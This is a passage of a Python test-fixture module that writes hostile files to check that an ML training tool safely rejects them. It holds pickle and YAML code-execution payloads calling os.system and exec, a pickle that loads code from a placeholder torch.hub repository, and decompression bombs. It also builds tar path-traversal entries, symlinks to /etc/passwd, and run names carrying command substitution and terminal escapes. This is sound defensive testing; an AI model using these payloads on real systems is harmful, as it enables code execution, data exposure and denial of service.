"""Malicious files, one function each: it writes them into the current folder and returns the commands that read them.

Whatever runs leaves a file called `MARKER` somewhere below the current folder.
"""

from __future__ import annotations

import bz2
import copy
import gzip
import io
import json
import os
import pickle
import shutil
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch
import yaml

from kdrun.config import stage_config
from kdrun.records import checkpoints
from kdrun.records.seal import sealed
from kdrun.records.store import identity
from kdrun.stages.source import fill_store

MARKER = "marker-of-foreign-code"
SECRET = "planted-hunter2-value"
ESCAPE = "\x1b]0;owned\x07\x1b[2J\r"
HTML = "<script>alert(1)</script>"
BOMB = 3 * 2**28  # bytes that a small file inflates to: more than a command may take
TRAIN = ["train", "model=cnn_tiny", "epochs=1"]
DISTILL = ["distill", "teacher=cnn", "student=cnn_tiny", "epochs=1", "teacher.train.epochs=1", "baseline=false"]
Words = list[str]
Commands = list[Words]


@dataclass(frozen=True)
class Artefact:
    write: Callable[[Path], Commands]  # takes a folder with a sound run, `completed`, and one cut off, `interrupted`
    harmless: bool = False  # by design: what is in it is data that nothing acts on, so that the command may succeed

    @property
    def name(self) -> str:
        return self.write.__name__


ARTEFACTS: list[Artefact] = []


def artefact(write: Callable[[Path], Commands]) -> Callable[[Path], Commands]:
    ARTEFACTS.append(Artefact(write))
    return write


def harmless(write: Callable[[Path], Commands]) -> Callable[[Path], Commands]:
    ARTEFACTS.append(Artefact(write, harmless=True))
    return write


class Calls:
    """An object that calls something when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.function, self.arguments


SHELL = Calls(os.system, f"touch {MARKER}")
CODE = Calls(exec, f"open({MARKER!r}, 'w').close()")
FILE = Calls(open, MARKER, "w")
REMOTE = Calls(torch.hub.load, "somebody/something", "model")


def weights() -> dict[str, Any]:
    return {"conv.weight": torch.zeros(2)}


def reads_checkpoint(file: str) -> Commands:
    """Every command that reads a file of weights."""
    return [
        ["evaluate", "model=cnn_tiny", f"model.checkpoint={file}", "dataset=digits"],
        ["train", "model=cnn_tiny", f"model.checkpoint={file}", "epochs=1"],
        [*DISTILL, f"teacher.checkpoint={file}"],
        [*DISTILL, f"student.checkpoint={file}"],
        ["evaluate", file, "dataset=digits"],
        ["predict", file, "completed/image.png"],
        ["kdrun.load", file],
    ]


def reads_model(run: str = "completed") -> Commands:
    """Every command that reads the model of a run."""
    return [
        ["evaluate", run],
        ["predict", run, "completed/image.png"],
        ["kdrun.load", run],
        [*DISTILL, f"teacher.run={run}"],
    ]


def reads_config(run: str = "completed") -> Commands:
    return [["reproduce", run], ["evaluate", run]]


def reads_listing() -> Commands:
    return [["list", "runs", "output_dir=outputs"], ["list", "output_dir=outputs"]]


# ------------------------------------------------------------------------------------------------- files of weights


@artefact
def code_among_the_weights(folder: Path) -> Commands:
    torch.save({"state_dict": {**weights(), "fc.weight": SHELL}}, "theirs.pth")
    return reads_checkpoint("theirs.pth")


@artefact
def code_among_the_optimizer_s_state(folder: Path) -> Commands:
    torch.save({"state_dict": weights(), "optimizer": {"state": CODE}}, "theirs.pth")
    return reads_checkpoint("theirs.pth")[2:3]


@artefact
def code_among_the_random_state(folder: Path) -> Commands:
    torch.save({"model": weights(), "rng": [FILE]}, "theirs.pth")
    return reads_checkpoint("theirs.pth")[3:4]


@artefact
def code_in_a_legacy_checkpoint(folder: Path) -> Commands:
    torch.save({**weights(), "x": SHELL}, "theirs.pth", _use_new_zipfile_serialization=False)
    return reads_checkpoint("theirs.pth")[:2]


@artefact
def a_bare_pickle(folder: Path) -> Commands:
    Path("theirs.pth").write_bytes(pickle.dumps(CODE, 2))
    return reads_checkpoint("theirs.pth")[:1]


@artefact
def a_call_of_torch_hub(folder: Path) -> Commands:
    torch.save({"state_dict": REMOTE}, "theirs.pth")
    return reads_checkpoint("theirs.pth")[:1]


@artefact
def a_whole_pickled_module(folder: Path) -> Commands:
    torch.save(torch.nn.Linear(2, 2), "theirs.pth")
    return reads_checkpoint("theirs.pth")[:1]


@artefact
def a_torchscript_archive(folder: Path) -> Commands:
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), "theirs.pth")
    return reads_checkpoint("theirs.pth")[:1]


@artefact
def a_numpy_array_of_objects(folder: Path) -> Commands:
    np.save("theirs.npy", np.array([SHELL], dtype=object), allow_pickle=True)
    np.savez("theirs.npz", weights=np.array([CODE], dtype=object))
    return [*reads_checkpoint("theirs.npy")[:1], *reads_checkpoint("theirs.npz")[:1]]


@artefact
def a_checkpoint_that_inflates(folder: Path) -> Commands:
    torch.save({"a": torch.zeros(4)}, "small.pth")
    with (
        zipfile.ZipFile("small.pth") as small,
        zipfile.ZipFile("theirs.pth", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as big,
    ):
        for name in small.namelist():
            with big.open(name, "w", force_zip64=True) as file:
                if name.endswith("data/0"):
                    for _ in range(64):
                        file.write(bytes(BOMB // 64))
                else:
                    file.write(small.read(name))
    return reads_checkpoint("theirs.pth")[:1]


@artefact
def a_checkpoint_that_is_no_file(folder: Path) -> Commands:
    os.mkfifo("pipe.pth")
    Path("zero.pth").symlink_to("/dev/zero")
    Path("interrupted/checkpoints/last.pt").unlink()
    os.mkfifo("interrupted/checkpoints/last.pt")
    return [
        *reads_checkpoint("pipe.pth")[:1],
        *reads_checkpoint("zero.pth")[:1],
        *reads_checkpoint("pipe.pth")[4:],
        ["resume", "interrupted"],
    ]


@artefact
def a_checkpoint_of_three_gigabytes_of_nothing(folder: Path) -> Commands:
    """Sparse files that cost a sender nothing: one that ends like kdrun's, one whose list is most of the archive."""
    ends = {
        "marked": checkpoints.MARK + b"0" * 64,
        "listed": struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, 2**31, 4, 0),
    }
    for name, end in ends.items():
        shutil.copytree("completed", name)
        with Path(name, "checkpoints/model.pt").open("wb") as file:
            file.write(b"PK\3\4" if name == "listed" else b"")
            file.seek(3 * 2**30 - len(end))
            file.write(end)
    commands = [["reproduce", "marked"]]
    for name in ends:
        commands += [*reads_model(name)[:3], *reads_checkpoint(f"{name}/checkpoints/model.pt")[:2]]
    return commands


@artefact
def a_checkpoint_that_says_it_holds_more(folder: Path) -> Commands:
    """Every tensor's bytes are those of the first one: many times what the file has."""
    Path("zeros").write_bytes(bytes(2**22))
    zeros = {str(number): torch.from_file("zeros", shared=True, size=2**20) for number in range(150)}
    torch.save(zeros, "theirs.pth")
    with zipfile.ZipFile("theirs.pth") as whole, zipfile.ZipFile("few.pth", "w") as few:
        for name in whole.namelist():
            if "/data/" not in name or name.endswith("/0"):
                few.writestr(name, whole.read(name))
        entry = next(entry for entry in few.infolist() if entry.filename.endswith("/data/0"))
        for number in range(1, 150):
            other = copy.copy(entry)
            other.filename = entry.filename[:-1] + str(number)
            few.filelist.append(other)
    Path("few.pth").rename("theirs.pth")
    return reads_checkpoint("theirs.pth")[:2]


# ------------------------------------------------------------------------------------------- runs: models and states


def model_file(change: Callable[[dict[str, Any]], None]) -> None:
    """The sound run's model file, changed, its checksum right again: whoever can write a file can sign it."""
    file = Path("completed/checkpoints/model.pt")
    content = checkpoints.load(file)
    change(content)
    checkpoints.save(file, content)


@artefact
def code_in_a_model_file(folder: Path) -> Commands:
    model_file(lambda content: content["state_dict"].update(x=SHELL))
    return [*reads_model(), *reads_checkpoint("completed/checkpoints/model.pt")[:1]]


@artefact
def code_in_the_spec_of_a_model_file(folder: Path) -> Commands:
    model_file(lambda content: content["spec"].update(mean=CODE))
    return reads_model()[1:2]


@artefact
def code_in_the_state_of_a_stopped_run(folder: Path) -> Commands:
    file = Path("interrupted/checkpoints/last.pt")
    content = checkpoints.load(file)
    content["training"]["optimizer"] = SHELL
    checkpoints.save(file, content)
    shutil.copy(file, file.with_name("previous.pt"))
    return [["resume", "interrupted"]]


@artefact
def a_spec_of_another_kind(folder: Path) -> Commands:
    commands: Commands = []
    for number, kind in enumerate(["os", "../../completed", "building", "torchvision.models", 7, None]):
        model_file(lambda content, kind=kind: content["spec"].update(kind=kind))  # type: ignore[misc]
        shutil.copytree("completed", f"completed{number}")
        commands += reads_model(f"completed{number}")[1:2]
    return commands


@artefact
def a_spec_of_wrong_types(folder: Path) -> Commands:
    commands: Commands = []
    wrong = {"classes": 10**9, "options": [1], "size": "8", "channels": -1, "mean": [[0.5]], "resize": 10**9}
    for number, (key, value) in enumerate(wrong.items()):
        shutil.copytree("completed", f"completed{number}")
        file = Path(f"completed{number}/checkpoints/model.pt")
        content = checkpoints.load(file)
        content["spec"][key] = value
        checkpoints.save(file, content)
        commands += reads_model(f"completed{number}")[1:2]
    return commands


@artefact
def a_model_of_huge_images(folder: Path) -> Commands:
    model_file(lambda content: content["spec"].update(size=20_000))
    return reads_model()[:2]


@artefact
def a_model_far_bigger_than_its_file(folder: Path) -> Commands:
    def change(content: dict[str, Any]) -> None:
        content["spec"] |= {"kind": "mlp", "options": {"widths": [20_000, 20_000], "dropout": 0.0}}
        shapes = {"1": (20_000, 64), "3": (20_000, 20_000), "5": (10, 20_000)}
        state = {f"{layer}.weight": torch.zeros(1).expand(*shape) for layer, shape in shapes.items()}
        content["state_dict"] = {**state, **{f"{layer}.bias": torch.zeros(shapes[layer][0]) for layer in shapes}}

    model_file(change)
    return reads_model()[:3]


@harmless
def class_names_that_write_to_the_terminal(folder: Path) -> Commands:
    model_file(lambda content: content["spec"].update(classes=[f"{ESCAPE}{HTML}{number}" for number in range(10)]))
    return [["predict", "completed", "completed/image.png"], ["evaluate", "completed"]]


# --------------------------------------------------------------------------------------------------- runs: configs


def config_file(text: str, run: str = "completed") -> None:
    """The sound config with a line put before it."""
    file = Path(run, "config.yaml")
    file.write_text(f"{text}\n{file.read_text()}")


def changed_config(**nodes: Any) -> None:
    file = Path("completed/config.yaml")
    content = yaml.safe_load(file.read_text())
    for path, value in nodes.items():
        *parents, last = path.split("__")
        node = content
        for key in parents:
            node = node[key]
        node[last] = value
    file.write_text(yaml.safe_dump(content, sort_keys=False))


@artefact
def a_python_object_in_a_config(folder: Path) -> Commands:
    config_file(f"model_: !!python/object/apply:os.system ['touch {MARKER}']")
    config_file(f'x: !!python/object/new:exec [\'open("{MARKER}", "w")\']', "interrupted")
    return [*reads_config(), ["resume", "interrupted"]]


@artefact
def a_billion_laughs_in_a_config(folder: Path) -> Commands:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    config_file("\n".join(lines))
    config_file("\n".join(lines), "interrupted")
    return [*reads_config(), ["resume", "interrupted"]]


@artefact
def a_target_in_a_config(folder: Path) -> Commands:
    changed_config(model___target_="os.system", model__command=f"touch {MARKER}")
    return reads_config()[:1]


@artefact
def a_kind_that_is_a_module_of_somebody_else(folder: Path) -> Commands:
    Path("hostile_plugin.py").write_text(f"open({MARKER!r}, 'w')\n")
    changed_config(dataset__kind="hostile_plugin")
    return reads_config()


@artefact
def a_plugin_that_a_config_names(folder: Path) -> Commands:
    Path("hostile_plugin.py").write_text(f"open({MARKER!r}, 'w')\n")
    changed_config(plugins=["hostile_plugin"], model__kind="hostile_plugin.model")
    return reads_config()[:1]


@harmless
def callbacks_of_hydra_in_a_config(folder: Path) -> Commands:
    config_file(f"hydra: {{callbacks: {{x: {{_target_: os.system, command: touch {MARKER}}}}}}}")
    return reads_config()


@artefact
def an_environment_variable_in_a_config(folder: Path) -> Commands:
    changed_config(model__name="${oc.env:PLANTED_SECRET}")
    return reads_config()[:1]


@artefact
def a_config_nested_too_deeply(folder: Path) -> Commands:
    config_file("a: " + "[" * 100_000)
    return reads_config()


@artefact
def a_config_of_many_values(folder: Path) -> Commands:
    config_file(f"a: [{'{},' * 250_000}]")
    return reads_config()


@artefact
def a_config_of_a_gigabyte(folder: Path) -> Commands:
    with Path("completed/config.yaml").open("r+b") as file:
        file.truncate(2**30)
    return reads_config()


@artefact
def a_config_that_is_no_file(folder: Path) -> Commands:
    for name in ("pipe", "zero", "away"):
        shutil.copytree("completed", name)
        Path(name, "config.yaml").unlink()
    os.mkfifo("pipe/config.yaml")
    Path("zero/config.yaml").symlink_to("/dev/zero")
    Path("away/config.yaml").symlink_to("/etc/passwd")
    return [*reads_config("pipe"), *reads_config("zero")[:1], *reads_config("away")[:1]]


@artefact
def a_config_that_asks_for_everything(folder: Path) -> Commands:
    changed_config(model__widths=[10**6, 10**6], batch_size=10**12, device__threads=10**6)
    return reads_config()[:1]


@harmless
def a_config_that_writes_elsewhere(folder: Path) -> Commands:
    changed_config(output_dir=f"../{MARKER}", run_dir=f"../{MARKER}")
    return [["reproduce", "completed"]]


# --------------------------------------------------------------------------------------- runs: numbers and names


def listed(name: str, **content: Any) -> Path:
    """A run below `outputs` with this in its `run.json`."""
    run = Path("outputs", "train", name)
    run.mkdir(parents=True)
    (run / "run.json").write_text(json.dumps({"format": 1, "status": "completed", **content}))
    return run


@harmless
def names_that_write_to_the_terminal(folder: Path) -> Commands:
    for number, name in enumerate([ESCAPE, "a\nb", "--help", f"$(touch {MARKER})", f"`touch {MARKER}`", "‮gpj"]):
        listed(f"{number}{name}", reason=ESCAPE, stage=HTML)
    listed(HTML.replace("/", "_"))
    listed("status", status=ESCAPE)
    run = listed("numbers")
    (run / "summary.json").write_text(json.dumps({"test/accuracy": ESCAPE, "test/samples": ESCAPE}))
    shutil.copytree(run, os.fsdecode(b"outputs/train/\xff\xfe"))  # a name that is no text
    return reads_listing()


@harmless
def json_of_other_shapes(folder: Path) -> Commands:
    for number, text in enumerate(["[]", "7", "null", '{"status": ["x"]}', '{"status": {"a": 1}}', "\x00", "{"]):
        (listed(f"{number}") / "run.json").write_text(text)
    for number, text in enumerate(
        ["[]", '{"test/accuracy": []}', '{"test/accuracy": NaN}', '{"test/accuracy": 1e999}']
    ):
        (listed(f"s{number}") / "summary.json").write_text(text)
    return reads_listing()


@harmless
def json_nested_too_deeply(folder: Path) -> Commands:
    (listed("deep") / "run.json").write_text("[" * 1_000_000)
    (listed("number") / "run.json").write_text('{"format": 1, "status": ' + "9" * 1_000_000 + "}")
    return reads_listing()


@harmless
def json_that_is_no_file(folder: Path) -> Commands:
    for name in ("pipe", "zero", "away", "summary"):
        (listed(name) / ("summary.json" if name == "summary" else "run.json")).unlink(missing_ok=True)
    os.mkfifo("outputs/train/pipe/run.json")
    Path("outputs/train/zero/run.json").symlink_to("/dev/zero")
    Path("outputs/train/away/run.json").symlink_to("/etc/passwd")
    os.mkfifo("outputs/train/summary/summary.json")
    Path("outputs/train/circle").symlink_to("..")
    return reads_listing()


@harmless
def json_of_a_gigabyte(folder: Path) -> Commands:
    with (listed("big") / "run.json").open("r+b") as file:
        file.truncate(2**30)
    with (listed("summary") / "summary.json").open("wb") as file:
        file.write(b"[")
        file.write(b"[]," * 20_000_000)
    return reads_listing()


@artefact
def a_run_s_numbers_that_are_no_file(folder: Path) -> Commands:
    for name in ("pipe", "deep"):
        shutil.copytree("completed", name)
        Path(name, "run.json").unlink()
    os.mkfifo("pipe/run.json")
    Path("deep/run.json").write_text("[" * 1_000_000)
    return [
        command for run in ("pipe", "deep") for command in (["resume", run], ["reproduce", run], *reads_model(run)[1:3])
    ]


@harmless
def a_run_json_of_wrong_types(folder: Path) -> Commands:
    info = json.loads(Path("completed/run.json").read_text())
    commands: Commands = []
    wrong = {"device": 7, "data": [], "status": ["completed"], "code": None, "versions": ESCAPE}
    for number, (key, value) in enumerate(wrong.items()):
        shutil.copytree("completed", f"completed{number}")
        Path(f"completed{number}/run.json").write_text(json.dumps({**info, key: value}))
        commands.append(["reproduce", f"completed{number}"])
    return commands


@artefact
def numbers_to_compare_that_are_no_file(folder: Path) -> Commands:
    for name in ("summary.json", "metrics.jsonl"):
        shutil.copytree("completed", f"pipe-{name}")
        Path(f"pipe-{name}", name).unlink()
        os.mkfifo(f"pipe-{name}/{name}")
    shutil.copytree("completed", "deep")
    Path("deep/metrics.jsonl").write_text("[" * 1_000_000)
    shutil.copytree("completed", "words")
    Path("words/summary.json").write_text(json.dumps({"test/accuracy": ESCAPE}))
    return [["reproduce", run] for run in ("pipe-summary.json", "pipe-metrics.jsonl", "deep", "words")]


@harmless
def differences_that_write_to_the_terminal(folder: Path) -> Commands:
    info = Path("completed/run.json")
    content = json.loads(info.read_text())
    content |= {"data": {**content["data"], "name": ESCAPE}, "adapted": ESCAPE}
    info.write_text(json.dumps({**content, "versions": {**content["versions"], "torch": ESCAPE, ESCAPE: "1"}}))
    return [["reproduce", "completed"], ["resume", "completed"]]


@harmless
def checkpoints_that_lead_to_somebody_else_s(folder: Path) -> Commands:
    """What `clean` would free lies in another folder."""
    shutil.copytree("interrupted/checkpoints", "victim")
    shutil.rmtree("completed/checkpoints")
    Path("completed/checkpoints").symlink_to("../victim")
    return [["clean", "completed"], ["clean", ".", "unfinished=false"]]


@artefact
def a_stopped_run_that_leads_to_somebody_else_s(folder: Path) -> Commands:
    """What a run writes when it is gone on with lies in another folder: its states, its log, its mirror."""
    shutil.copytree("interrupted/checkpoints", "victim")
    Path("victim/.notes.part").write_text("half a page")
    Path("victim/bashrc").write_text("export PATH\n")
    shutil.copytree("interrupted", "states", ignore=shutil.ignore_patterns("checkpoints"))
    shutil.copytree("interrupted", "log", ignore=shutil.ignore_patterns("log.txt"))
    shutil.copytree("interrupted", "mirror")
    for link, target in {"states/checkpoints": "", "log/log.txt": "bashrc", "mirror/tensorboard": ""}.items():
        Path(link).symlink_to(Path("..", "victim", target))
    os.mkfifo("interrupted/checkpoints/previous.part")
    commands = [["resume", run] for run in ("states", "log", "mirror", "interrupted")]
    return [
        *commands,
        [*TRAIN, "dataset.limit=60", "device.threads=1", "checkpoint.keep=all", "run_dir=log", "resume=auto"],
    ]


# ------------------------------------------------------------------------------------------------ sweeps, searches

CALLS = (
    "${oc.env:PLANTED_SECRET}",
    "$\\{oc.env\\:PLANTED_SECRET\\}",  # Hydra takes the backslashes away
    "'${oc.${sweep.name}:PLANTED_SECRET}'",  # in a folder called env
)


def sweeps(each: Words, **content: Any) -> Commands:
    """To go on with: for each of these words a sweep, and a search, that has it."""
    commands: Commands = []
    for number, word in enumerate(each):
        common = {"format": 1, "words": ["seed=0,1", "epochs=1", word], **content}
        search = {"stage": "distill", "search": "kd", "trials": 1, **common, "words": [word]}
        for file, own in (("sweep.json", {"stage": "train", **common}), ("tune.json", search)):
            folder = Path(f"{Path(file).stem}{number}", "sweeps", "env")
            folder.mkdir(parents=True)
            (folder / file).write_text(json.dumps(own))
            commands.append(["resume", str(folder)])
    return commands


@artefact
def an_environment_variable_in_the_words_of_a_sweep(folder: Path) -> Commands:
    return sweeps([f"data_dir={call}" for call in CALLS])


@artefact
def an_environment_variable_in_the_launcher_s_words(folder: Path) -> Commands:
    launcher = ["hydra/launcher=joblib", f"hydra.launcher.verbose={CALLS[0]}"]
    return sweeps(["batch_size=8"], launcher=launcher)[:1]


@artefact
def a_sweep_that_writes_elsewhere(folder: Path) -> Commands:
    run, output = f"run_dir=../{MARKER}/${{seed}}", f"output_dir=../{MARKER}"
    return sweeps([run, f"+{run}", f"++{run}", run.replace("=", "@_here_="), f"++{output}", f"+{output}"])


@artefact
def options_in_the_words_of_a_sweep(folder: Path) -> Commands:
    theirs("search/kd.yaml", "space: {loss.alpha: {low: 0.1, high: 0.9}}\n")
    Path("hostile_plugin.py").write_text(f"open({MARKER!r}, 'w')\n")
    return sweeps(["--plugin=hostile_plugin", "--config-dir=theirs", "model@hydra.callbacks=mlp"])


@artefact
def a_sweep_that_is_no_file(folder: Path) -> Commands:
    commands = sweeps(["batch_size=8"])
    for file in (Path("sweep0/sweeps/env/sweep.json"), Path("tune0/sweeps/env/tune.json")):
        file.unlink()
        os.mkfifo(file)
    return commands


@artefact
def logs_of_a_sweep_that_lead_elsewhere(folder: Path) -> Commands:
    words = ["model=cnn_tiny", "dataset.limit=60", "batch_size=20"]
    commands = sweeps(words[:1], words=["seed=0,1", "epochs=1", *words])[:1]
    Path(f"../{MARKER}").mkdir()
    Path("sweep0/sweeps/env/logs").symlink_to(Path(f"../{MARKER}").resolve())
    return commands


@artefact
def locks_that_wait_for_somebody(folder: Path) -> Commands:
    commands = sweeps(["batch_size=8"])[:1]
    os.mkfifo("sweep0/sweeps/env/.lock")
    Path("outputs").mkdir()
    os.mkfifo("outputs/.lock")
    return [*commands, [*DISTILL, "teacher=cnn_tiny"]]


@artefact
def a_log_that_leads_elsewhere(folder: Path) -> Commands:
    Path("../mine").write_text("precious")
    Path("interrupted/log.txt").unlink()
    Path("interrupted/log.txt").symlink_to(Path("../mine").resolve())
    return [["resume", "interrupted"]]


# ------------------------------------------------------------------------------------------------------------ stores

STORES = Path("outputs/store")
KEY = {"spec": {"kind": "mlp", "options": {}}, "taps": {}, "augment": [["flip", {}]], "top_k": None, "type": "float32"}
READS_STORES = [["store", "list"], ["store", "verify"], ["store", "prune", "keep_gb=0"]]


def described(name: str = "", key: Any = None, **content: Any) -> Path:
    """A store by its description; a name that is right for the key, unless one is given."""
    key = KEY if key is None else key
    folder = STORES / (name or identity(key)[:16])
    folder.mkdir(parents=True)
    (folder / "store.json").write_text(json.dumps({"format": 1, "shape": [2, 3], "key": key, **content}))
    return folder


@harmless
def descriptions_of_stores_of_other_shapes(folder: Path) -> Commands:
    for number, text in enumerate(["[]", "7", "{", "\x00", '{"format": 1}', '{"format": 1, "shape": 3, "key": []}']):
        (described(f"{number}") / "store.json").write_text(text)
    for number, shape in enumerate([[2, 3, 4], [2], ["2", 3], [2.5, 3], [-2, 3], None, {"a": 1, "b": 2}]):
        described(key={**KEY, "n": number}, shape=shape)
    wrong = {"spec": ["a"], "taps": {"a": 1}, "augment": 7, "top_k": "2", "type": []}
    for name, value in wrong.items():
        described(key={**KEY, name: value})
        described(key={key: value for key, value in KEY.items() if key != name})
    described(key=[])
    described(key={**KEY, "spec": {"kind": ESCAPE, "options": {"name": HTML}}, "augment": [[ESCAPE, 1]]})
    return READS_STORES


@harmless
def stores_that_are_no_files(folder: Path) -> Commands:
    for name in ("pipe", "zero", "away"):
        (described(name) / "store.json").unlink()
    os.mkfifo(STORES / "pipe/store.json")
    (STORES / "zero/store.json").symlink_to("/dev/zero")
    (STORES / "away/store.json").symlink_to("/etc/passwd")
    views = described()
    os.mkfifo(views / "view-00000.bin")
    (views / "view-00001.bin").symlink_to("/dev/zero")
    (views / "view-00002.bin").mkdir()
    theirs = described(key={**KEY, "n": 1})
    shutil.move(theirs, "../victim")
    Path("../victim/view-00000.bin").write_bytes(b"precious")
    theirs.symlink_to(Path("../victim").resolve())
    return READS_STORES


@harmless
def stores_of_hostile_names_and_times(folder: Path) -> Commands:
    for name in (ESCAPE, "a\nb", f"$(touch {MARKER})", HTML.replace("/", "_"), os.fsdecode(b"\xff\xfe")):
        described(name)
    store = described()
    (store / f"view-{ESCAPE}.bin".replace("/", "")).write_bytes(b"x")
    os.utime(store / "store.json", (2**40, 2**40))
    return READS_STORES


@harmless
def views_of_sizes_that_lie(folder: Path) -> Commands:
    with (described() / "view-00000.bin").open("wb") as file:
        file.truncate(2**40)
    (described(key={**KEY, "n": 1}, shape=[2**40, 2**20]) / "view-00000.bin").write_bytes(sealed(b""))
    return [READS_STORES[0], READS_STORES[2]]  # verify says which is damaged: see tests/unit/test_store.py


@harmless
def a_store_to_distill_from_that_is_none(folder: Path) -> Commands:
    """Each time another of its parts: it is made again, and nothing else is read or waited for."""
    words = [*DISTILL[1:], "teacher=cnn_tiny", "dataset.limit=60", "teacher.outputs=stored", "device.threads=1"]
    words += ["batch_size=20", "teacher.train.batch_size=20"]
    filled = fill_store(stage_config("distill", [*words, "output_dir=sound"]))
    commands = []
    for number, spoil in enumerate((_sized, _piped, _in_a_folder, _without_description, _with_a_pipe_for_one)):
        shutil.copytree("sound", f"copy{number}")
        spoil(Path(f"copy{number}", "store", filled.path.name))
        commands.append(["distill", *words, f"output_dir=copy{number}"])
    return commands


def _sized(store: Path) -> None:
    (store / "view-00000.bin").write_bytes(sealed(b"short, and signed"))


def _piped(store: Path) -> None:
    (store / "view-00000.bin").unlink()
    os.mkfifo(store / "view-00000.bin")


def _in_a_folder(store: Path) -> None:
    shutil.rmtree(store)
    store.parent.joinpath("elsewhere").mkdir()
    store.symlink_to("elsewhere")


def _without_description(store: Path) -> None:
    (store / "store.json").unlink()


def _with_a_pipe_for_one(store: Path) -> None:
    _without_description(store)
    os.mkfifo(store / "store.json")


# --------------------------------------------------------------------------------------------------------- data sets


def cifar(data: bytes, words: Words | None = None) -> Commands:
    base = Path("data/cifar-10-batches-py")
    base.mkdir(parents=True)
    for name in (*(f"data_batch_{number}" for number in range(1, 6)), "test_batch", "batches.meta"):
        (base / name).write_bytes(data)
    return [[*TRAIN, "dataset=cifar10", "data_dir=data", *(words or ["dataset.verify=false"])]]


@artefact
def code_in_a_cifar_pickle(folder: Path) -> Commands:
    return cifar(pickle.dumps({"data": SHELL, "labels": CODE}, 2))


@artefact
def an_attribute_of_an_admitted_module_in_a_cifar_pickle(folder: Path) -> Commands:
    return cifar(b"\x80\x04\x8c\x05numpy\x8c\x13load.__globals__.os\x93.")


@artefact
def a_cifar_pickle_that_asks_for_memory(folder: Path) -> Commands:
    return cifar(b"\x80\x04N" + b"r" + struct.pack("<I", 2**31 - 1) + b".")  # a memo of two thousand million places


@artefact
def a_cifar_archive_that_inflates(folder: Path) -> Commands:
    Path("data").mkdir()
    entry = tarfile.TarInfo("cifar-10-batches-py/data_batch_1")
    entry.size = BOMB
    with Path("data/cifar-10-python.tar.gz").open("wb") as file:
        file.write(gzip.compress(entry.tobuf()))
        zeros = gzip.compress(bytes(BOMB // 64), 1)
        for _ in range(64):
            file.write(zeros)
    return [[*TRAIN, "dataset=cifar10", "data_dir=data", f"dataset.verify={verify}"] for verify in ("true", "false")]


@artefact
def a_cifar_archive_that_leads_elsewhere(folder: Path) -> Commands:
    commands: Commands = []
    for kind, link in ((tarfile.SYMTYPE, "/etc/passwd"), (tarfile.CHRTYPE, "")):
        data = Path(f"data{kind.decode()}")
        data.mkdir()
        with tarfile.open(data / "cifar-10-python.tar.gz", "w:gz") as tar:
            for name in (f"../{MARKER}", f"/tmp/{MARKER}", *(f"cifar-10-batches-py/data_batch_{n}" for n in (1, 2))):
                entry = tarfile.TarInfo(name)
                entry.type, entry.linkname = (tarfile.REGTYPE, "") if MARKER in name else (kind, link)
                tar.addfile(entry, io.BytesIO())
        commands.append([*TRAIN, "dataset=cifar10", f"data_dir={data}"])
    return commands


MNIST = ("train-images-idx3-ubyte", "train-labels-idx1-ubyte", "t10k-images-idx3-ubyte", "t10k-labels-idx1-ubyte")


@artefact
def an_idx_file_that_inflates(folder: Path) -> Commands:
    raw = Path("data/MNIST/raw")
    raw.mkdir(parents=True)
    zeros = gzip.compress(bytes(BOMB // 64), 1)
    for name in MNIST:
        with (raw / f"{name}.gz").open("wb") as file:
            for _ in range(64):
                file.write(zeros)
    return [[*TRAIN, "dataset=mnist", "data_dir=data", f"dataset.verify={verify}"] for verify in ("true", "false")]


@artefact
def an_idx_header_that_lies(folder: Path) -> Commands:
    raw = Path("data/MNIST/raw")
    raw.mkdir(parents=True)
    for name in MNIST:
        (raw / name).write_bytes(b"\x00\x00\x08\xff" + b"\x7f\xff\xff\xff" * 255)
    return [[*TRAIN, "dataset=mnist", "data_dir=data", "dataset.verify=false"]]


@artefact
def a_usps_file_that_inflates(folder: Path) -> Commands:
    usps = Path("data/usps")
    usps.mkdir(parents=True)
    squeezed = bz2.compress(b"1 " * 2**17) * 4096
    for name in ("usps.bz2", "usps.t.bz2"):
        (usps / name).write_bytes(squeezed)
    return [[*TRAIN, "dataset=usps", "data_dir=data", "dataset.verify=false"]]


def picture_folder(write: Callable[[Path], None]) -> Commands:
    """A folder of two classes, one picture of which is the hostile one; read in memory, streamed, and by predict."""
    for name in ("a", "b"):
        Path("pictures", name).mkdir(parents=True)
        for number in range(12):
            shutil.copy("completed/image.png", f"pictures/{name}/{number}.png")
    hostile = Path("pictures/a/hostile.png")
    write(hostile)
    words = [*TRAIN, "dataset=image_folder", "dataset.path=pictures", "data_dir=.", "batch_size=4", "dataset.workers=0"]
    return [words, [*words, "dataset.cache_gb=0.0"], ["predict", "completed", str(hostile)]]


@artefact
def a_picture_that_inflates(folder: Path) -> Commands:
    return picture_folder(lambda path: png(path, 40_000))


@artefact
def a_picture_that_inflates_a_little_less(folder: Path) -> Commands:
    return picture_folder(lambda path: png(path, 13_300))  # PIL itself only warns of it


def png(path: Path, side: int) -> None:
    """A black grey-scale picture, of which PIL makes a colour one; its data ends early where it is never decoded."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    squeeze = zlib.compressobj(1)
    rows = b"".join(squeeze.compress(bytes(1 + side)) for _ in range(side if side < 20_000 else 1)) + squeeze.flush()
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


@artefact
def a_picture_that_is_a_program(folder: Path) -> Commands:
    """PIL hands PostScript to Ghostscript, whatever the file is called."""
    text = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n%%EndComments\n({MARKER}) (w) file closefile\nshowpage\n"
    return picture_folder(lambda path: path.write_text(text) and None)


@artefact
def a_picture_that_is_no_file(folder: Path) -> Commands:
